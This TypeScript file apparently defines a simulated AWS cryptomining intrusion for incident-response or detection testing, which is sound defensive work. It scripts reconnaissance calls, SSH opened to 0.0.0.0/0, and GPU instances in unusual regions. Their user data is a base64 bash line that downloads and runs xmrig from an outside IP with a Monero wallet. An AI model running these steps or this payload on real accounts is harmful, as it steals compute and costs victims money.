import type { ScenarioDef, Step, TruthNote } from '../types.js';
import { amiFor } from '../world.js';

const MIN = 60_000;
const HOUR = 60 * MIN;

const MINER = Buffer.from(
  '#!/bin/bash\ncurl -s http://45.9.148.3/xmrig.tar.gz | tar xz -C /tmp\n/tmp/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD --donate-level 1 -B\n',
).toString('base64');

/** Regions the attacker launches in: unusual for this account (it runs in us-east-1 only). */
const MINING_REGIONS = ['ap-southeast-1', 'sa-east-1', 'eu-north-1'];

const recon = (
  at: number,
  service: Step['service'],
  op: string,
  input: Record<string, unknown> = {},
  expectError?: string,
): Step => ({
  at,
  actor: 'attacker',
  service,
  op,
  input,
  ...(expectError ? { expectError } : {}),
});

function miners(region: string, at: number, index: number): Step[] {
  const sg = `sg:${region}`;
  const steps: Step[] = [
    {
      at,
      actor: 'attacker-automation',
      service: 'ec2',
      region,
      op: 'CreateSecurityGroup',
      input: { GroupName: 'default-ssh', Description: 'ssh' },
      save: (out, v) => (v[sg] = out.GroupId),
      truth: (out) => ({
        created: [{ type: 'AWS::EC2::SecurityGroup', id: String(out.GroupId), region }],
      }),
    },
    {
      at: at + 10_000,
      actor: 'attacker-automation',
      service: 'ec2',
      region,
      op: 'AuthorizeSecurityGroupIngress',
      input: (v) => ({
        GroupId: v[sg],
        IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }],
      }),
      truth: (_out, v) => ({
        modified: [
          {
            type: 'AWS::EC2::SecurityGroup',
            id: String(v[sg]),
            region,
            detail: 'ingress tcp/22 from 0.0.0.0/0',
          },
        ],
        clean: [
          { check: 'securityGroupRuleAbsent', region, groupId: String(v[sg]), cidr: '0.0.0.0/0', port: 22 },
        ],
      }),
    },
    {
      at: at + 30_000,
      actor: 'attacker-automation',
      service: 'ec2',
      region,
      op: 'RunInstances',
      input: (v) => ({
        ImageId: amiFor(region),
        InstanceType: index === 0 ? 'p3.16xlarge' : 'g4dn.12xlarge',
        MinCount: 2,
        MaxCount: 2,
        SecurityGroupIds: [v[sg]],
        UserData: MINER,
        TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Name', Value: 'worker' }] }],
      }),
      truth: (out): TruthNote => {
        const ids = (out.Instances as { InstanceId: string }[]).map((i) => i.InstanceId);
        return {
          created: ids.map((id) => ({
            type: 'AWS::EC2::Instance',
            id,
            region,
            detail: 'cryptocurrency miner',
          })),
          clean: ids.map((instanceId) => ({ check: 'instanceNotRunning', region, instanceId })),
        };
      },
    },
  ];
  return steps;
}

/**
 * Cryptomining: the developer's key leaked in a public repository is picked up by a scanner; the
 * first use comes from a new IP, then recon with AccessDenied bursts, then GPU instances in
 * three unusual regions behind an SSH-open security group, running a Monero miner.
 */
export const cryptomining: ScenarioDef = {
  name: 'cryptomining',
  summary:
    'leaked key → recon with AccessDenied bursts → GPU miners in three unusual regions, SSH opened, GuardDuty crypto findings, cost spike',
  attackStartsBeforeEnd: 30 * HOUR,
  leakedKey: true,
  attackers: [
    {
      name: 'attacker',
      kind: 'attacker',
      ip: '185.220.101.47',
      userAgent: 'aws-cli/2.13.25 Python/3.11.5 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2023 prompt/off',
    },
    {
      name: 'attacker-automation',
      kind: 'attacker',
      ip: '45.9.148.3',
      userAgent:
        'Boto3/1.28.62 md/Botocore#1.31.62 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.6 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.31.62',
    },
  ],
  steps: [
    recon(0, 'sts', 'GetCallerIdentity'),
    recon(20_000, 'iam', 'GetUser'),
    recon(30_000, 'iam', 'ListUsers'),
    recon(40_000, 'iam', 'GetAccountAuthorizationDetails', {}, 'AccessDenied'),
    recon(45_000, 'iam', 'GenerateCredentialReport', {}, 'AccessDenied'),
    recon(50_000, 'iam', 'GetCredentialReport', {}, 'AccessDenied'),
    recon(
      55_000,
      'ce',
      'GetCostAndUsage',
      {
        TimePeriod: { Start: '2026-01-01', End: '2026-02-01' },
        Granularity: 'MONTHLY',
        Metrics: ['UnblendedCost'],
      },
      'AccessDeniedException',
    ),
    recon(60_000, 'iam', 'GetAccountAuthorizationDetails', {}, 'AccessDenied'),
    recon(2 * MIN, 'ec2', 'DescribeRegions'),
    recon(2 * MIN + 10_000, 'ec2', 'DescribeInstances'),
    recon(2 * MIN + 20_000, 's3', 'ListBuckets'),
    recon(2 * MIN + 30_000, 'lambda', 'ListFunctions'),
    recon(2 * MIN + 40_000, 'ec2', 'DescribeSecurityGroups'),
    ...MINING_REGIONS.flatMap((region, i) => miners(region, 10 * MIN + i * 3 * MIN, i)),
  ],
};
